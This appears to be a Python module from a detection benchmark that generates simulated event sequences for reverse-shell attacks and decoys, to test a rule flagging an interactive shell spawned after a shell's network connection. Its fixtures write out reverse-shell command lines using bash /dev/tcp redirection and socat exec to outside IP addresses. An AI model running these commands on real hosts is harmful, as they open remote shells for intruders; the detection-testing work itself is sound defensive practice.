"""True positives of the founding rule (a network event of a shell, then an interactive shell as its child) and decoys.

Every attack makes exactly one match; every decoy breaks one thing and makes none.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from benchmarks.documents import Host, Process

#: (microseconds after the start, "process" | "network", action, process, ip or "", port)
Step = tuple[int, str, str, Process, str, int]
DECOYS: Final = ("too_late", "loopback", "other_parent", "not_interactive")
_SHELLS = ("bash", "sh", "dash", "zsh", "ksh")


def attack(host: Host, number: int) -> Iterator[Step]:
    """One reverse shell; every fourth one is socat running a shell on the connection."""
    ip, port = f"185.70.{number // 250 % 250}.{number % 250 + 1}", 4444
    if number % 4 == 3:
        yield from _reverse_shell(
            host, "socat", ["socat", f"tcp:{ip}:{port}", "exec:/bin/sh,pty"], ["/bin/sh"], ip, port
        )
    else:
        shell = _SHELLS[number % len(_SHELLS)]
        carrier = [shell, "-c", f"{shell} -i >& /dev/tcp/{ip}/{port} 0>&1"]
        yield from _reverse_shell(host, shell, carrier, [shell, "-i"], ip, port)


def decoy(host: Host, number: int, kind: str) -> Iterator[Step]:
    """The same events with one thing broken; `kind` is one of `DECOYS`."""
    ip = "127.0.0.1" if kind == "loopback" else f"185.71.{number // 250 % 250}.{number % 250 + 1}"
    yield from _reverse_shell(
        host,
        "bash",
        ["bash", "-c", f"bash -i >& /dev/tcp/{ip}/4444 0>&1"],
        ["bash", "-c", "true"] if kind == "not_interactive" else ["bash", "-i"],
        ip,
        4444,
        delay_us=5_400_000 if kind == "too_late" else 180_000,
        own_parent=kind != "other_parent",
    )


def _reverse_shell(
    host: Host,
    name: str,
    carrier_args: list[str],
    shell_args: list[str],
    ip: str,
    port: int,
    *,
    delay_us: int = 180_000,
    own_parent: bool = True,
) -> Iterator[Step]:
    root = host.random.choice(host.daemons)
    forked, carrier = host.child(root, name, f"/usr/bin/{name}", carrier_args)
    shell_name = shell_args[0].rpartition("/")[2]
    parent = carrier if own_parent else host.daemons[0]
    child_forked, shell = host.child(parent, shell_name, f"/usr/bin/{shell_name}", shell_args)
    yield 0, "process", "fork", forked, "", 0
    yield 400, "process", "exec", carrier, "", 0
    yield 90_000, "network", "connection_attempted", carrier, ip, port
    if name != "socat":  # a fork of socat has its name, which is no shell
        yield 90_000 + delay_us - 900, "process", "fork", child_forked, "", 0
    yield 90_000 + delay_us, "process", "exec", shell, "", 0
    yield 90_000 + delay_us + 2_000_000, "process", "end", shell, "", 0
    yield 90_000 + delay_us + 2_050_000, "process", "end", carrier, "", 0
